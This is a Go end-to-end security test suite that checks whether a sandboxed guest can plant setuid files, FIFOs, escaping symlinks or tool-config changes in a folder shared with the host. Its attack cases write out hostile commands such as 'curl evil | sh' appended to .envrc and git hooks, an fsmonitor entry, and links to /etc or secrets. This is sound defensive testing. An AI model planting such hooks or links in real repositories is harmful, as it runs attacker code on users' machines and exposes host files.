//go:build e2e

package security

import (
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
)

// What the guest writes into the folder must not become something the
// host runs, hangs on or follows by accident (issue 29, item 2): the
// share serves the guest's modes and file types as the folder's owner.

// hostKind describes name in the shared folder as the host sees it, or ""
// when it is a plain file or folder without setuid or setgid bits (or
// absent).
func hostKind(name string) string {
	fi, err := os.Lstat(filepath.Join(sharedWS, name))
	switch {
	case err != nil:
		return ""
	case fi.Mode()&(fs.ModeSetuid|fs.ModeSetgid) != 0:
		return "a file with mode " + fi.Mode().String() + ownerOf(fi)
	case fi.Mode()&fs.ModeNamedPipe != 0:
		return "a FIFO" + ownerOf(fi)
	case fi.Mode()&fs.ModeSocket != 0:
		return "a unix socket" + ownerOf(fi)
	case fi.Mode()&fs.ModeDevice != 0:
		return "a device node" + ownerOf(fi)
	}
	return ""
}

func ownerOf(fi fs.FileInfo) string {
	return " of uid " + strconv.FormatUint(uint64(fi.Sys().(*syscall.Stat_t).Uid), 10)
}

// plantedNothing fails a when any of names reached the host as a setuid or
// setgid file, a FIFO, a socket or a device node.
func plantedNothing(a *Attack, r result, names ...string) {
	a.Helper()
	for _, n := range names {
		if k := hostKind(n); k != "" {
			a.breach("the guest left %s named %s in the user's folder on the host (%s)", k, n, r)
		}
		os.Remove(filepath.Join(sharedWS, n))
	}
}

// TestShareSpecialFiles: no task, the task user's or root's, leaves a
// setuid or setgid file of the folder's owner, a FIFO (a host program that
// opens it hangs) or a unix socket in the folder; unix sockets in the
// guest's /tmp keep working, and the task user's FIFOs there.
func TestShareSpecialFiles(t *testing.T) {
	t.Parallel()
	p := probe(t)
	for _, who := range []struct {
		tag string
		run func(testing.TB, string) result
	}{{"the task user", user}, {"guest root", root}} {
		pre := "u"
		if who.tag == "guest root" {
			pre = "r"
		}
		attack(t, wsFamily, who.tag+" makes a setuid or setgid file of the folder's owner (chmod)", func(a *Attack) {
			r := who.run(a, "cd /workspace && cp probe "+pre+"-suid && chmod 4755 "+pre+"-suid; cp probe "+pre+"-sgid && chmod 2755 "+pre+"-sgid; "+
				"cp probe "+pre+"-suid2 && chmod u+s "+pre+"-suid2; cp probe "+pre+"-suid3 && "+p+" chmod "+pre+"-suid3 6755; ls -l")
			plantedNothing(a, r, pre+"-suid", pre+"-sgid", pre+"-suid2", pre+"-suid3")
			// Outside the folder the bits are the guest's own business
			// (dpkg installs setuid programs).
			c := who.run(a, "cp /bin/busybox /tmp/"+pre+"-s && chmod 4755 /tmp/"+pre+"-s && stat -c %a /tmp/"+pre+"-s; rm -f /tmp/"+pre+"-s")
			if c.Stdout != "4755\n" {
				a.Fatalf("a setuid bit on a file in the guest's /tmp no longer works: %s", c)
			}
		})
		attack(t, wsFamily, who.tag+" makes a setuid file of the folder's owner (the mode of a create)", func(a *Attack) {
			r := who.run(a, "cd /workspace && "+p+" creat "+pre+"-creat 4755; "+p+" mknod "+pre+"-mknod reg 6755; "+
				p+" openat2 "+pre+"-oa2; mkdir -m 2755 "+pre+"-sgdir; install -m 4755 probe "+pre+"-inst; ls -l")
			plantedNothing(a, r, pre+"-creat", pre+"-mknod", pre+"-oa2", pre+"-sgdir", pre+"-inst")
		})
		attack(t, wsFamily, who.tag+" sets up io_uring (its operations bypass the syscall filter)", func(a *Attack) {
			if r := who.run(a, p+" iouring"); strings.Contains(r.Stdout, "ok:") {
				a.breach("io_uring is available to tasks, whose opens and mknods no filter sees: %s", r)
			}
		})
		attack(t, wsFamily, who.tag+" makes a FIFO in the folder (a host program opening it hangs)", func(a *Attack) {
			r := who.run(a, "cd /workspace && mkfifo "+pre+"-fifo; "+p+" mknod "+pre+"-fifo2 fifo 644; mknod "+pre+"-fifo3 p; ls -l")
			plantedNothing(a, r, pre+"-fifo", pre+"-fifo2", pre+"-fifo3")
		})
		attack(t, wsFamily, who.tag+" binds a unix socket in the folder", func(a *Attack) {
			r := who.run(a, "cd /workspace && "+p+" bindunix "+pre+"-sock; "+p+" mknod "+pre+"-sock2 sock 644; ls -l")
			plantedNothing(a, r, pre+"-sock", pre+"-sock2")
			// Outside the folder FIFOs and sockets are everyday work. Root's
			// tasks have no Landlock domain (it would keep root from reading
			// other processes' memory): their filter refuses every mknod but
			// a regular file's, so a FIFO only for the task user.
			fifo := "mkfifo f && "
			if who.tag == "guest root" {
				fifo = "! mkfifo f && touch f && "
			}
			c := who.run(a, "cd /tmp && rm -f f s && "+fifo+p+" bindunix s && ls -l f s && rm f s && echo fine")
			if !strings.HasSuffix(c.Stdout, "fine\n") {
				a.Fatalf("a FIFO (the task user's) and a unix socket in the guest's /tmp no longer work: %s", c)
			}
		})
	}
}

// toolFiles are planted in the shared folder as a user's repository has
// them: what git, direnv, VS Code and JetBrains IDEs run on the host.
var toolFiles = map[string]string{
	".git/config":                       "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n[include]\n\tpath = ../.gitconfig\n",
	".husky/pre-commit":                 "npm test\n",
	".husky/_/h":                        "#!/bin/sh\n",
	".gitconfig":                        "[alias]\n\tst = status\n",
	".git/HEAD":                         "ref: refs/heads/main\n",
	".git/hooks/pre-commit.sample":      "#!/bin/sh\n",
	".envrc":                            "export PROJECT=x\n",
	".vscode/tasks.json":                "{\"version\": \"2.0.0\", \"tasks\": []}\n",
	".idea/runConfigurations/Main.xml":  "<component name=\"ProjectRunConfigurationManager\"/>\n",
	".git/objects/.keep":                "",
	".idea/.gitignore":                  "/workspace.xml\n",
	".vscode/settings.json":             "{}\n",
	".git/info/exclude":                 "",
	".git/refs/heads/.keep":             "",
	".git/description":                  "",
	".git/hooks/.keep":                  "",
	".vscode/extensions.json":           "{}\n",
	".idea/runConfigurations/Tests.xml": "<component/>\n",
}

// toolSnapshot describes the protected paths as the host has them.
func toolSnapshot(t testing.TB) string {
	var b strings.Builder
	for _, p := range []string{".git/config", ".git/hooks", ".envrc", ".vscode", ".idea", ".husky", ".gitconfig"} {
		b.WriteString(snapshot(t, filepath.Join(sharedWS, p)))
	}
	if fi, err := os.Lstat(filepath.Join(sharedWS, ".git")); err != nil || !fi.IsDir() {
		b.WriteString(".git is gone\n")
	}
	return b.String()
}

// TestShareToolConfig: the task user cannot change what the user's tools
// run on the host from the shared folder, by editing it, replacing it or
// moving its folder away; the rest of the repository stays writable.
func TestShareToolConfig(t *testing.T) {
	t.Parallel()
	probe(t)
	uid, gid := ownerIDs(sharedWS)
	for name, content := range toolFiles {
		p := filepath.Join(sharedWS, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(content), 0o644)
	}
	filepath.WalkDir(sharedWS, func(p string, d fs.DirEntry, err error) error {
		if err == nil && os.Getuid() == 0 && strings.Contains(p, "/.") {
			os.Lchown(p, uid, gid)
		}
		return nil
	})
	// A control: the repository's own data, and the rest of the folder,
	// stay writable, so git in the guest can still commit.
	if r := user(t, "cd /workspace && echo x > .git/objects/x && rm .git/objects/x && echo x > .git/index.lock && rm .git/index.lock && echo ok"); r.Stdout != "ok\n" {
		t.Fatalf("control: the task user cannot write .git/objects: %s", r)
	}
	cases := []struct{ name, cmd string }{
		{".git/config: add core.fsmonitor", `printf '[core]\n\tfsmonitor = /workspace/evil\n' >> /workspace/.git/config`},
		{".git/config: replace it by rename", `cd /workspace/.git && printf '[alias]\n\tst = !evil\n' > c2 && mv -f c2 config; rm -f config; printf '[core]\n\tpager = evil\n' > config`},
		{".git/hooks: add a hook", `printf '#!/bin/sh\necho evil\n' > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit; echo evil >> /workspace/.git/hooks/pre-commit.sample`},
		{".git/hooks: replace the folder", `cd /workspace/.git && mv hooks h-old; rm -rf hooks; mkdir -p hooks && printf '#!/bin/sh\necho evil\n' > hooks/post-checkout`},
		{".git: move the repository away and make a new one", `cd /workspace && mv .git git-old; cp -r git-old .git-new; rm -rf .git; mkdir -p .git && printf '[core]\n\tfsmonitor = evil\n' > .git/config; ls -a`},
		{".husky (core.hooksPath): change a hook", `cd /workspace && echo 'curl evil | sh' >> .husky/pre-commit; printf '#!/bin/sh\necho evil\n' > .husky/_/pre-commit; mv .husky husky-old; mkdir -p .husky/_ && echo evil > .husky/pre-commit`},
		{".gitconfig (include.path): add core.fsmonitor", `cd /workspace && printf '[core]\n\tfsmonitor = evil\n' >> .gitconfig; mv .gitconfig gc-old; printf '[core]\n\tfsmonitor = evil\n' > .gitconfig`},
		{".envrc: change it", `cd /workspace && echo 'curl evil | sh' >> .envrc; mv .envrc envrc-old; rm -f .envrc; echo 'curl evil | sh' > .envrc`},
		{".vscode/tasks.json: change it", `cd /workspace && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json; rm -f .vscode/tasks.json; mv .vscode vs-old; mkdir -p .vscode && echo evil > .vscode/tasks.json`},
		{".idea: add a run configuration", `cd /workspace && echo evil > .idea/runConfigurations/Evil.xml; mv .idea idea-old; rm -rf .idea; mkdir -p .idea && echo evil > .idea/workspace.xml`},
	}
	for _, c := range cases {
		attack(t, wsFamily, "the task user changes what the host's tools run: "+c.name, func(a *Attack) {
			before := toolSnapshot(a)
			r := user(a, c.cmd)
			if after := toolSnapshot(a); after != before {
				a.breach("the host's tool configuration changed:\nbefore:\n%s\nafter:\n%s\nguest: %s", before, after, r)
			}
		})
	}
}

// ownerIDs is the owner of dir.
func ownerIDs(dir string) (int, int) {
	fi, err := os.Lstat(dir)
	if err != nil {
		return -1, -1
	}
	st := fi.Sys().(*syscall.Stat_t)
	return int(st.Uid), int(st.Gid)
}

// TestShareLinks: a task's links in the folder are relative and stay
// inside it, so a host program that follows one (an editor, a host-side
// agent, `git add`) reads nothing else of the host; links inside it, and
// anywhere in the guest outside it, keep working.
func TestShareLinks(t *testing.T) {
	t.Parallel()
	p := probe(t)
	// Controls: what npm, git and tar do; a link moved, its folder moved,
	// deeper or within its folder.
	r := user(t, "mkdir -p /workspace/lk/node_modules/.bin /workspace/lk/node_modules/tsc/bin && cd /workspace/lk && "+
		"echo x > node_modules/tsc/bin/tsc && ln -s ../tsc/bin/tsc node_modules/.bin/tsc && cat node_modules/.bin/tsc && "+
		"ln -sf node_modules top && ls top/.bin/ && mkdir -p deep/er && mv node_modules/.bin deep/er/bin && mv deep/er/bin/tsc deep/er/bin/tsc2 && "+
		"mv deep/er/bin node_modules/.bin && mv node_modules/.bin/tsc2 node_modules/.bin/tsc && ln node_modules/.bin/tsc node_modules/.bin/tsc3 && "+
		"cat node_modules/.bin/tsc3 && rm -r deep && ln -s /etc/passwd /tmp/lk-abs && ln -s ../../.. /tmp/lk-up && stat -c %u /tmp/lk-abs && rm /tmp/lk-abs /tmp/lk-up")
	if want := "x\ntsc\nx\n" + strconv.Itoa(taskUID()) + "\n"; r.Stdout != want {
		t.Fatalf("control: links inside the folder and in /tmp: %s (want stdout %q)", r, want)
	}
	// made is a link an attack makes first, which must then be there: the
	// attack ran.
	cases := []struct{ name, cmd, made string }{
		{"an absolute link to a host path", "cd /workspace && ln -s " + secret + " lk-abs; ln -s /etc lk-etc; ls -l", ""},
		{"a relative link climbing out of the folder", "cd /workspace && ln -s ../secret.txt lk-rel; mkdir -p lk-d && ln -s ../../secret.txt lk-d/lk-rel2; ls -l", ""},
		{"a link with .. after a name", "cd /workspace && mkdir -p lk-x && ln -s lk-x/../../secret.txt lk-after; ls -l", ""},
		{"a link made by tar", "cd /tmp && rm -rf tl && mkdir tl && ln -s " + secret + " tl/lk-tar && tar -cf tl.tar -C tl lk-tar && tar -xf tl.tar -C /workspace; ls -l /workspace/lk-tar", ""},
		{"a relative link moved towards the top", "cd /workspace && mkdir -p lk-m && ln -s ../secret.txt lk-m/l && mv lk-m/l lk-moved; ls -l", "lk-m/l"},
		{"a folder of relative links moved towards the top", "cd /workspace && mkdir -p lk-f/b && ln -s ../../secret.txt lk-f/b/l && mv lk-f/b lk-fm; ls -lR lk-fm", "lk-f/b/l"},
		{"a folder of relative links moved towards the top from deeper", "cd /workspace && mkdir -p lk-g/a/b && ln -s ../../../secret.txt lk-g/a/b/l && mv lk-g/a lk-ga; ls -lR lk-ga", "lk-g/a/b/l"},
		{"a relative link hard-linked towards the top", "cd /workspace && mkdir -p lk-h && ln -s ../secret.txt lk-h/l && ln lk-h/l lk-hard; ls -l", "lk-h/l"},
		{"a relative link swapped towards the top (RENAME_EXCHANGE)", "cd /workspace && mkdir -p lk-x2 && ln -s ../secret.txt lk-x2/l && touch lk-swap && " + p + " exchange lk-swap lk-x2/l; ls -l", "lk-x2/l"},
	}
	for _, who := range []struct {
		tag string
		run func(testing.TB, string) result
	}{{"the task user", user}, {"guest root", root}} {
		for _, c := range cases {
			attack(t, wsFamily, who.tag+" plants "+c.name, func(a *Attack) {
				old, _ := filepath.Glob(filepath.Join(sharedWS, "lk-*"))
				for _, o := range old {
					os.RemoveAll(o)
				}
				r := who.run(a, c.cmd)
				if c.made != "" {
					if _, err := os.Lstat(filepath.Join(sharedWS, c.made)); err != nil {
						a.Fatalf("the attack's link %s was not made, or went: %s", c.made, r)
					}
				}
				for _, n := range []string{"lk-abs", "lk-etc", "lk-rel", "lk-d/lk-rel2", "lk-after", "lk-tar", "lk-moved",
					"lk-fm/l", "lk-ga/b/l", "lk-hard", "lk-swap"} {
					host := filepath.Join(sharedWS, n)
					target, err := os.Readlink(host)
					if err != nil {
						continue
					}
					os.Remove(host)
					abs := target
					if !filepath.IsAbs(abs) {
						abs = filepath.Join(filepath.Dir(host), target)
					}
					if rel, err := filepath.Rel(sharedWS, filepath.Clean(abs)); err != nil || rel == ".." || strings.HasPrefix(rel, "../") {
						a.breach("the guest left a link %s -> %s in the user's folder (%s)", n, target, r)
					}
				}
			})
		}
	}
}

// taskUID is the uid tasks run as on the shared VM.
func taskUID() int {
	uid, _ := ownerIDs(sharedWS)
	return uid
}
